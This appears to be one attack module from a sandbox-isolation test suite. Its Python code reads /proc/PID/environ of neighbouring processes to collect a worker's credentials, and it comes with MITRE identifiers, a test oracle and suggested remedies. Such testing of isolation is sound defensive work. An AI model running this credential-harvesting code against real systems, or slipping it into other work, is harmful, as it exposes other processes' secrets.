# SPDX-License-Identifier: MIT
"""Goal:  the worker's credentials, from outside its process.
Means: open() on /proc/PID/environ: the plain way, against which the others are measured. A
       preloaded library that wraps open(3) does not see it: CPython calls open64(3).
"""

from attack import DONE, attempting, credential, denied, loot, neighbours


def run(brief):
    why = "nobody else in sight"
    attempting()
    for pid in neighbours(brief):
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                found = credential(file.read())
        except OSError as error:
            why = error
            continue
        if found:
            loot(found)
            return DONE
    return denied("/proc/PID/environ", why)


ATTACK = {
    "effect": "the worker's environment is read through /proc",
    "means": "open() on /proc/PID/environ",
    "oracle": "secret:environ",
    "quick": True,
    "id": "PROC-01",
    "attack_id": "T1057, T1003.007, CWE-497",
    "remedy": "Landlock without /proc; a worker that is not dumpable; a pid namespace",
    "refs": ["proc(5)"],
    "run": run,
}
